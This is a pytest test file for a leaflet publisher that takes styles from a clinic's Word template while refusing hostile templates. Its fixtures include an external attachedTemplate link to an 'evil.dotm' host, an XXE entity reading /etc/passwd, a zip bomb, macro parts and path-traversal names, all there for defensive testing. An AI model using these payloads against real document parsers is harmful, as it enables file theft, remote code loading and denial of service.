"""A clinic's own template: its looks are taken, what a leaflet needs is kept, and nothing else of it gets in."""

import io
import struct
import zipfile
from dataclasses import replace
from pathlib import Path

import docx as python_docx
import docx_integrity
import openxml_audit
import pytest
from docx.shared import Pt, RGBColor
from lxml import etree

from publisher.leaflet import Edition, Format
from publisher.reading.publisher_yaml import WordFiles
from publisher.reading.report import Report
from publisher.reading.word_look import template_of
from publisher.render import Assets, WordChoices, docx
from publisher.verify import Target, word_rules
from publisher.word_template import MOST_PART_BYTES, TemplateError, read
from tests.render.conftest import EVERYTHING
from tests.render.docx.test_docx import W, made, value

DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def clinic() -> dict[str, bytes]:
    """Return the parts of a template as a clinic might have made it in Word."""
    document = python_docx.Document()
    document.styles["Heading 2"].font.name = "Georgia"
    document.styles["Heading 2"].font.color.rgb = RGBColor(0x00, 0x55, 0x00)
    document.styles["Normal"].font.name = "Georgia"
    document.styles["Normal"].font.size = Pt(11)
    document.add_paragraph("Words of the template that no leaflet may show.")
    file = io.BytesIO()
    document.save(file)
    with zipfile.ZipFile(file) as package:
        return {name: package.read(name) for name in package.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return file.getvalue()


def as_dotx(parts: dict[str, bytes]) -> dict[str, bytes]:
    kinds = parts["[Content_Types].xml"].replace(DOCX.encode(), DOTX.encode())
    return {**parts, "[Content_Types].xml": kinds}


def rendered(assets: Assets, edition: Edition, parts: dict[str, bytes]) -> bytes:
    own = replace(assets, word=WordChoices(read(zipped(parts))))
    return docx.render(*made(EVERYTHING, edition), own).data


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name)


def style(data: bytes, name: str) -> etree._Element:
    root = etree.fromstring(part(data, "word/styles.xml"))
    return next(node for node in root.iter(f"{W}style") if node.get(f"{W}styleId") == name)


@pytest.mark.parametrize("edition", [Edition.STANDARD, Edition.LARGE_PRINT, Edition.EASY_READ])
def test_its_styles_are_used_by_name_and_missing_ones_added(assets: Assets, edition: Edition, tmp_path: Path) -> None:
    data = rendered(assets, edition, as_dotx(clinic()))
    assert value(style(data, "Heading2"), "rPr/color") == "005500"
    assert value(style(data, "Heading2"), "pPr/outlineLvl") == "1"
    assert value(style(data, "Title"), "pPr/outlineLvl") == "0"
    assert value(style(data, "WarningText"), "name") == "Leaflet Warning Box"
    assert b"Words of the template" not in part(data, "word/document.xml")
    file = tmp_path / "leaflet.docx"
    file.write_bytes(data)
    assert [str(error.description) for error in openxml_audit.OpenXmlValidator().validate(file).errors] == []
    assert [str(finding) for finding in docx_integrity.check(file)] == []
    edited, stamp = made(EVERYTHING, edition)
    found = word_rules.check(Target(file.name, edited, stamp, Format.DOCX), data)
    assert {finding.rule for finding in found} <= {"contrast"}  # its captions are in a blue that is too faint


def test_the_text_is_the_same_under_every_template(assets: Assets) -> None:
    plain = part(docx.render(*made(EVERYTHING, Edition.A5), assets).data, "word/document.xml")
    assert part(rendered(assets, Edition.A5, clinic()), "word/document.xml") == plain


def test_large_print_stays_large_and_standard_takes_the_clinics_size(assets: Assets) -> None:
    standard, large = (rendered(assets, edition, clinic()) for edition in (Edition.STANDARD, Edition.LARGE_PRINT))
    assert value(style(standard, "Normal"), "rPr/sz") == "22"
    assert value(style(large, "Normal"), "rPr/sz") == "36"
    assert value(style(large, "ListBullet"), "rPr/sz") == "36"


def test_a_style_that_has_our_id_under_another_name_is_kept_apart(assets: Assets) -> None:
    parts = clinic()
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>",
        b'<w:style w:type="paragraph" w:styleId="WarningText"><w:name w:val="Something Else"/></w:style></w:styles>',
    )
    data = rendered(assets, Edition.STANDARD, parts)
    assert value(style(data, "WarningText"), "name") == "Leaflet Warning Box"
    assert b"Something Else" in part(data, "word/styles.xml")


def test_nothing_leads_out_of_the_file(assets: Assets) -> None:
    parts = clinic()
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )
    data = rendered(assets, Edition.STANDARD, parts)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not any(b"evil" in package.read(name) for name in package.namelist())


def bomb() -> bytes:
    return zipped({**clinic(), "word/styles.xml": b" " * (MOST_PART_BYTES + 1)})


def doctype() -> bytes:
    evil = b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    styles = clinic()["word/styles.xml"]
    return zipped({**clinic(), "word/styles.xml": styles.replace(b"<w:styles", evil + b"<w:styles", 1)})


def encrypted() -> bytes:
    data = bytearray(zipped(clinic()))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place : at + place + 2] = struct.pack("<H", 1)
            at = data.find(mark, at + 4)
    return bytes(data)


def twice() -> bytes:
    data = zipped({"word/styles.xmm": b"", **clinic()})
    return data.replace(b"word/styles.xmm", b"word/styles.xml")


HOSTILE = {
    "no zip file": (b"not a zip file", "no Word file"),
    "an old Word file": (b"\xd0\xcf\x11\xe0" * 100, "no Word file"),
    "an empty file": (b"", "no Word file"),
    "another zip file": (zipped({"a.txt": b"a"}), "no Word file"),
    "a password": (encrypted(), "no Word file"),
    "cut short": (zipped(clinic())[:-100], "no Word file"),
    "macros": (zipped({**clinic(), "word/vbaProject.bin": b"x"}), "macros"),
    "a part that unpacks to much": (bomb(), "unpacks to more"),
    "entities": (doctype(), "document type"),
    "broken styles": (zipped({**clinic(), "word/styles.xml": b"<w:styles"}), "not sound"),
    "too many parts": (zipped({**clinic(), **{f"a/{number}": b"" for number in range(2001)}}), "too many parts"),
    "two parts of one name": (twice(), "too many parts"),
    "no document": (zipped({"[Content_Types].xml": b"<Types/>"}), "no Word document"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_file_that_means_harm_is_refused_in_one_line(what: str, tmp_path: Path) -> None:
    data, why = HOSTILE[what]
    with pytest.raises(TemplateError, match=why):
        read(data)
    (tmp_path / "clinic.dotx").write_bytes(data)
    report = Report("source/publisher.yaml")
    assert template_of(tmp_path, WordFiles("clinic.dotx", 7), report) is None
    (problem,) = report.problems
    assert str(problem).startswith('source/publisher.yaml:7: error: the template "clinic.dotx" cannot be used: it')


@pytest.mark.parametrize("name", ["nowhere.dotx", "../outside.dotx", ".", "link.dotx"])
def test_a_template_that_is_not_in_source_is_refused(name: str, tmp_path: Path) -> None:
    source = tmp_path / "source"
    source.mkdir()
    (tmp_path / "outside.dotx").write_bytes(zipped(clinic()))
    (source / "link.dotx").symlink_to(tmp_path / "outside.dotx")
    report = Report("source/publisher.yaml")
    assert template_of(source, WordFiles(name, 3), report) is None
    assert [problem.rule for problem in report.problems] == ["unknown-template"]
